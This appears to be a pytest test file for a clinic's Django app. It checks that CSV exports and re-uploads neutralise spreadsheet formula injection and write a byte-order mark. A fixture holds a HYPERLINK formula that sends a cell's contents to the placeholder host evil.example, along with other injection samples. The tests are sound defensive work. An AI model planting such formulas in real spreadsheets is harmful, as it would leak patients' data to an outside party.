"""CSV files opened in a spreadsheet never run a formula that came in as someone's name or note (CSV injection):
the clinicians' adherence export, a patient's own data, and the front desk's lines to fix."""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from accounts.models import User
from clinic.spreadsheets import EXCEL_BOM, as_text, from_text
from recovery.clock import clinic_today
from recovery.models import Protocol
from tests.factories import CheckInFactory, PatientFactory, make_plan

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


@pytest.mark.parametrize("value", [FORMULA, "+44 7700 900123", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_value_a_spreadsheet_would_run_goes_in_as_text_and_comes_back_as_it_went(value):
    assert as_text(value) == "'" + value
    assert from_text(as_text(value)) == value


@pytest.mark.parametrize("value", ["Ann", "O'Brien", "'quoted'", 7, datetime.date(2026, 4, 26), ""])
def test_other_values_are_left_as_they_are(value):
    assert as_text(value) == value
    if isinstance(value, str):
        assert from_text(value) == value


def test_the_adherence_export_writes_a_formula_name_as_text(clinician_client):
    plan = make_plan(PatientFactory(first_name=FORMULA, last_name="Runner"), days_since_race=2)
    response = clinician_client.post(
        "/admin/recovery/recoveryplan/", {"action": "export_adherence", "_selected_action": [plan.pk]}
    )
    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["patient"] == f"'{FORMULA} Runner"


def test_a_patients_own_csv_writes_a_formula_note_as_text(patient_client, patient):
    plan = make_plan(patient, days_since_race=2)
    CheckInFactory(plan=plan, note="=1+1 my hip")
    rows = list(csv.reader(io.StringIO(patient_client.get("/account/my-data.csv").content.decode("utf-8-sig"))))
    assert ["check_ins", "1", "note", "'=1+1 my hip"] in rows


def test_the_lines_to_fix_write_formulas_as_text_and_read_them_back_on_upload(desk):
    race_day = (clinic_today() - datetime.timedelta(days=1)).isoformat()
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [
            ["first_name", "last_name", "email", "phone", "race_date"],
            [FORMULA, "Club", "bad@example", "+44 7700 900123", race_day],
        ]
    )
    lines = buffer.getvalue()
    upload = SimpleUploadedFile("club.csv", lines.encode(), content_type="text/csv")
    desk.post("/front-desk/import/", {"file": upload, "protocol": Protocol.objects.default().pk})

    to_fix = desk.get("/front-desk/import/to-fix.csv").content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(to_fix)))[1]
    assert row[:5] == [f"'{FORMULA}", "Club", "bad@example", "'+44 7700 900123", race_day]

    corrected = to_fix.replace("bad@example,", "good@example.com,")
    preview = desk.post(
        "/front-desk/import/",
        {"file": SimpleUploadedFile("fixed.csv", corrected.encode(), content_type="text/csv"),
         "protocol": Protocol.objects.default().pk},
    )  # fmt: skip
    assert preview.context["problem_rows"] == []
    desk.post("/front-desk/import/confirm/", {"intake": preview.context["intake_id"]})
    enrolled = User.objects.get(email="good@example.com")
    assert (enrolled.first_name, enrolled.phone) == (FORMULA, "+44 7700 900123")


def test_every_csv_file_opens_in_excel_with_its_accents(clinician_client, patient):
    """Without a byte-order mark first, Excel reads UTF-8 as the Windows character set: "ZoÃ« BrontÃ«"."""
    plan = make_plan(PatientFactory(first_name="Zoë", last_name="Brontë"), days_since_race=2)
    adherence = clinician_client.post(
        "/admin/recovery/recoveryplan/", {"action": "export_adherence", "_selected_action": [plan.pk]}
    )
    make_plan(patient, days_since_race=2)
    phone = Client()
    phone.force_login(patient)
    mine = phone.get("/account/my-data.csv")
    for response in (adherence, mine):
        assert response.content.startswith(EXCEL_BOM.encode())
        assert response.content.decode("utf-8-sig").startswith(("patient,", "section,"))
